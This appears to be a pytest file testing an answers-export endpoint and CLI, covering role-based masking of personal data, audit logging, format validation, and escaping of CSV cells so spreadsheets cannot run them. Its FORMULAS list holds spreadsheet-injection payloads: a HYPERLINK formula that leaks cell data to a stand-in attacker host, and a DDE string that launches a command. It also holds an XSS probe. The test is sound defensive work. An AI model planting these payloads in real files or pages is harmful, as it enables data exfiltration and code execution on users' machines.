"""Answers as a file: who gets which, masked or not, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pytest
from typer.testing import CliRunner

from app.cli import cli
from leads.model.scope import Scope
from leads.store.transcripts import ANSWERS_EXPORTED, TranscriptLog, acts_on
from scoring.artifact import Artifact
from tests.app.house import ONE, House, make_house
from tests.app.pages.reading import signed_in_as
from tests.app.pages.review.test_answers_list import an_answer

PERSONAL = "How hot is Priya Mehta? +919825014821"
# What spreadsheets have been seen to run, behind what they skip before it.
FORMULAS = (
    *(f"{sign}1+1" for sign in "=+-@\uff1d\uff0b\uff0d\uff20"),
    *(f"{before}=1+1" for before in (" ", "\t", "\r", "\n", "\u3000", "\u200b", "\ufeff", "\x00")),
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "\t\r \uff1d1+1",
    "\tplain, but for its tab",
    "\rplain, but for its return",
)
HARMLESS = (
    "plain",
    "100 - 20",
    '"=1+1',
    'a, "b"\nc',
    "<img src=x onerror=alert(1)>",
    "ઘર જોવું છે 🔥",
    "half a pair \ud800",
)


@pytest.fixture
async def house(tmp_path: Path, artifact: Artifact) -> AsyncIterator[House]:
    made = make_house(tmp_path, artifact)
    log = TranscriptLog(made.pakka.record, Scope.machinery(ONE))
    log.save(an_answer("personal", PERSONAL, 1))
    log.save(an_answer("bela", "Farhan?", 2, staff_id="staff_bela", lead_ids=("lead_farhan",)))
    yield made
    await made.pakka.aclose()


async def _export(house: House, who: str, **asked: str) -> httpx.Response:
    async with signed_in_as(house, who) as client:
        return await client.get("/review/export", params=asked)


def _rows(response: httpx.Response) -> list[dict[str, Any]]:
    return [json.loads(line) for line in response.text.splitlines()]


async def test_an_analyst_gets_every_answer_masked(house: House) -> None:
    told = await _export(house, "anil", format="jsonl")
    assert [row["transcript_id"] for row in _rows(told)] == [
        "transcript_personal",
        "transcript_bela",
    ]
    assert {row["is_masked"] for row in _rows(told)} == {True}
    for word in ("Priya", "Mehta", "9825014821"):
        assert word not in told.text
    assert acts_on(house.pakka.record, Scope.machinery(ONE), ANSWERS_EXPORTED, "format=jsonl") == []


async def test_a_manager_gets_those_of_the_team_with_names_and_that_is_noted(house: House) -> None:
    told = await _export(house, "mona", format="jsonl", days="7", x="Priya")
    (row,) = _rows(told)
    assert (row["question"], row["is_masked"]) == (PERSONAL, False)
    scope = Scope.machinery(ONE)
    (act,) = acts_on(house.pakka.record, scope, ANSWERS_EXPORTED, "format=jsonl&days=7")
    assert act.staff_id == "staff_mona"

    await _export(house, "mona", format="jsonl", q="Priya Mehta")
    assert len(acts_on(house.pakka.record, scope, ANSWERS_EXPORTED, "format=jsonl&q=hidden")) == 1


async def test_filters_are_those_of_the_list(house: House) -> None:
    told = await _export(house, "adi", format="jsonl", broker="staff_bela")
    assert [row["transcript_id"] for row in _rows(told)] == ["transcript_bela"]


@pytest.mark.parametrize("asked", [{}, {"format": "xlsx"}, {"format": "csv", "days": "many"}])
async def test_what_cannot_be_read_is_refused_by_name(house: House, asked: dict[str, str]) -> None:
    told = await _export(house, "adi", **asked)
    assert told.status_code == 422
    assert "format" in told.text or "days" in told.text


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS], ids=ascii)
async def test_no_cell_of_a_sheet_is_a_formula(house: House, text: str) -> None:
    log = TranscriptLog(house.pakka.record, Scope.machinery(ONE))
    storable = text if "\x00" not in text and "\ud800" not in text else "plain"
    log.save(an_answer("odd", storable, 0.5, answer={"text": text}))
    told = await _export(house, "adi", format="csv")
    assert told.headers["content-disposition"].endswith('.csv"')
    assert told.content.startswith(b"\xef\xbb\xbf")
    sheet = list(csv.DictReader(io.StringIO(told.content.decode("utf-8-sig"), newline="")))
    (row,) = [row for row in sheet if row["transcript_id"] == "transcript_odd"]
    mark = "'" if text in FORMULAS else ""
    assert row["answer"] == f"{mark}{text.replace(chr(0xD800), '?')}"


async def test_parquet_has_typed_columns_and_every_step(house: House, tmp_path: Path) -> None:
    log = TranscriptLog(house.pakka.record, Scope.machinery(ONE))
    log.save(an_answer("stepped", "=1+1", 0.5, steps=({"step": "find", "ms": 1.5},)))
    told = await _export(house, "adi", format="parquet")
    out = tmp_path / "answers.parquet"
    out.write_bytes(told.content)
    with duckdb.connect() as database:
        query = 'SELECT question, lead_ids, year("at"), steps FROM read_parquet(?) ORDER BY "at"'
        rows = database.execute(query, [str(out)]).fetchall()
    assert rows[1][:3] == (PERSONAL, ["lead_priya"], 2026)
    assert rows[2][0] == "=1+1"
    assert json.loads(rows[2][3]) == [{"step": "find", "ms": 1.5}]


async def test_without_duckdb_parquet_says_what_to_install(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "duckdb", None)
    told = await _export(house, "adi", format="parquet")
    assert told.status_code == 422
    assert "pakka[parquet]" in told.text


@pytest.mark.parametrize("ending", ["jsonl", "csv", "parquet"])
def test_the_command_writes_the_same(
    artifact: Artifact, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ending: str
) -> None:
    home, out = tmp_path / "home", tmp_path / f"answers.{ending}"
    record = make_house(home, artifact).pakka.record
    TranscriptLog(record, Scope.machinery(ONE)).save(an_answer("one", PERSONAL, 0))
    record.close()
    monkeypatch.setenv("PAKKA_HOME", str(home))
    run = CliRunner().invoke
    refused = run(cli, ["export", "answers", str(out), "--as", "Asha"])
    assert "managers" in str(refused.exception)
    ended = run(cli, ["export", "answers", str(out), "days=all", "--as", "Anil"])
    assert ended.exit_code == 0, ended.exception
    found = duckdb.sql(f"SELECT transcript_id FROM '{out}'").fetchall()
    assert found == [("transcript_one",)]
    with_names = run(cli, ["export", "answers", str(out), "days=all", "--as", "Mona"])
    assert with_names.exit_code == 0, with_names.exception
    audited = run(cli, ["audit", "--brokerage", ONE, "--act", ANSWERS_EXPORTED, "--json"]).stdout
    assert [(act["staff_id"], act["subject_id"]) for act in json.loads(audited)] == [
        ("staff_mona", f"format={ending}&days=all")
    ]
